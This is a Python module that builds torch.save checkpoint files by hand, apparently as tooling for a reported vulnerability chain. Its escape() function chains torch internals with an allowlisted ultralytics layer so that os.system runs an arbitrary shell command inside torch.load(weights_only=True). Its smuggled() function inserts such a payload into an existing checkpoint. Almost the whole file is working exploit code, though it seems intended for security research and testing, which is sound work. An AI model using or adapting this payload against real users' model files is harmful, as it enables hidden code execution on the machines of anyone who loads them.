"""Write files of ``torch.save`` by hand, including malicious ones."""

import io
import struct
import zipfile
from dataclasses import dataclass, field
from typing import Any


@dataclass(eq=False)
class Global:
    """A name."""

    module: str
    name: str


@dataclass(eq=False)
class Call:
    """REDUCE, with a BUILD if there is a state."""

    function: Any
    arguments: tuple
    state: Any = None
    new: bool = False  # NEWOBJ instead


@dataclass(eq=False)
class Raw:
    """Bytes of a pickle as they are."""

    code: bytes


@dataclass(eq=False)
class Storage:
    """A persistent id of torch."""

    key: str = "0"
    elements: Any = 4
    kind: str = "FloatStorage"


@dataclass
class Writer:
    out: io.BytesIO = field(default_factory=io.BytesIO)

    def put(self, value: Any) -> None:
        write = self.out.write
        match value:
            case Raw():
                write(value.code)
            case None:
                write(b"N")
            case bool():
                write(b"\x88" if value else b"\x89")
            case int() if -(2**31) <= value < 2**31:
                write(b"J" + struct.pack("<i", value))
            case int():
                content = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
                write(b"\x8a" + bytes([len(content)]) + content)
            case float():
                write(b"G" + struct.pack(">d", value))
            case str():
                content = value.encode("utf-8", "surrogatepass")
                write(b"X" + struct.pack("<I", len(content)) + content)
            case bytes():
                write(b"B" + struct.pack("<I", len(value)) + value)
            case Global():
                write(f"c{value.module}\n{value.name}\n".encode())
            case Storage():
                self.put(("storage", Global("torch", value.kind), value.key, "cpu", value.elements))
                write(b"Q")
            case Call():
                self.put(value.function)
                self.put(value.arguments)
                write(b"\x81" if value.new else b"R")
                if value.state is not None:
                    self.put(value.state)
                    write(b"b")
            case tuple() | list() | dict():
                write({tuple: b"(", list: b"](", dict: b"}("}[type(value)])
                for one in value.items() if isinstance(value, dict) else value:
                    for part in one if isinstance(value, dict) else (one,):
                        self.put(part)
                write({tuple: b"t", list: b"e", dict: b"u"}[type(value)])
            case _:
                raise TypeError(value)


def bare(value: Any) -> bytes:
    """The opcodes that create ``value``, without a beginning and an end."""
    writer = Writer()
    writer.put(value)
    return writer.out.getvalue()


def pickle(value: Any) -> bytes:
    return b"\x80\x02" + bare(value) + b"."


def tensor(size: Any, stride: Any, offset: Any = 0, storage: Any = None, **more: Any) -> Call:
    """A tensor as torch describes it; ``more`` belongs to its storage."""
    arguments = (
        storage or Storage(**more),
        offset,
        size,
        stride,
        False,
        Call(Global("collections", "OrderedDict"), ()),
    )
    return Call(Global("torch._utils", "_rebuild_tensor_v2"), arguments)


def archive(value: Any, storages: dict[str, bytes] | None = None, **more: bytes) -> bytes:
    """A file with ``value`` (a value, or the bytes of a pickle), storages by key, and further members."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr("best/data.pkl", value if isinstance(value, bytes) else pickle(value))
        file.writestr("best/version", "3\n")  # torch refuses a file without it, whatever else is in it
        for key, content in ({"0": bytes(16)} if storages is None else storages).items():
            file.writestr(f"best/data/{key}", content)
        for name, content in more.items():
            file.writestr(f"best/{name}", content)
    return made.getvalue()


def layer(cls: str, parameters: dict | None = None, modules: dict | None = None, **attributes: Any) -> Call:
    """A module as torch saves it; ``cls`` is dotted."""
    module, _, name = cls.rpartition(".")
    state = {"training": False, "_parameters": parameters or {}, "_buffers": {}, "_modules": modules or {}}
    return Call(Global(module, name), (), state | attributes, new=True)


# The chain of faults note 2026-11-30, items 1 and 1b. It runs code in torch.load(weights_only=True) where the layers
# of ultralytics are allowed, as they were in 0.1; test_attacks.py shows that it does.

_IDENTITY = "torch.nn.modules.linear.Identity"
_PARAMETERS = "torch.nn.modules.container.ParameterDict"
_HOOKS = {"_backward_hooks": {}, "_forward_hooks": {}}
_MAGIC = 0x1950A86A20F9469CFC6C  # of torch's format before 1.6


def called(function: Any, argument: Any, **attributes: Any) -> Call:
    """``function(argument)`` through torch's ``_rebuild_from_type_v2``; then ``attributes`` are set on the result.

    The helper calls ``as_subclass`` of what it made, which a module takes from its own ``__dict__``.
    """
    made = layer(_IDENTITY, as_subclass=function, **_HOOKS)
    helper = Global("torch._tensor", "_rebuild_from_type_v2")
    return Call(helper, (layer(_IDENTITY, **_HOOKS), argument, (made,), attributes))


def item(key: Any) -> Call:
    """A callable that returns ``x[key]``; for a ``ParameterDict`` that is ``getattr(x, key)``."""
    return layer("ultralytics.nn.modules.conv.Index", index=key, **_HOOKS)


def changing(cls: str, **attributes: Any) -> Call:
    """Set attributes of a class of torch, for the rest of the process."""
    module, _, name = cls.rpartition(".")
    return called(layer(_IDENTITY, **_HOOKS), Global(module, name), **attributes)


def escape(command: str) -> list[Any]:
    """A value that runs ``command`` in a shell while it is loaded, and leaves the process unchanged.

    ``ParameterDict`` gets ``TypedStorage`` for a base, whose ``__reduce_ex__`` hands out ``_load_from_bytes``, that is
    ``torch.load(weights_only=False)``.
    """
    memo = b"\xff\xff\x00\x00"
    storage = Call(Global("torch.storage", "UntypedStorage"), (4,))
    kept = bare(layer(_PARAMETERS, _untyped_storage=storage, dtype=Global("torch", "float32"))) + b"r" + memo
    again = Raw(b"j" + memo)
    rebased = called(item("__class__"), again, __bases__=(Global("torch.storage", "TypedStorage"),))
    loads = called(item(0), called(called(item("__reduce_ex__"), again), 2))
    runs = b"\x80\x02" + bare(Call(Global("os", "system"), (command,))) + b"0"  # what it returned is dropped
    code = runs + bare(_MAGIC) + b"." + pickle(1001) + pickle({"little_endian": True}) + pickle(None) + pickle([])
    content = Call(Global("_codecs", "encode"), (code.decode("latin1"), "latin1"))  # bytes in a pickle of protocol 2
    back = called(item("__class__"), again, __bases__=(Global("torch.nn.modules.module", "Module"),))
    return [Raw(kept), rebased, called(loads, content), back]


def smuggled(checkpoint: bytes, value: Any) -> bytes:
    """The ``torch.save`` file ``checkpoint`` with ``value`` added to its content."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(checkpoint)) as old, zipfile.ZipFile(made, "w") as new:
        for member in old.infolist():
            content = old.read(member)
            if member.filename.endswith("/data.pkl"):
                begin = b"\x80\x02}q\x00("
                assert content.startswith(begin), "not a dict"
                content = begin + bare("smuggled") + bare(value) + content[len(begin) :]
            new.writestr(member.filename, content)
    return made.getvalue()
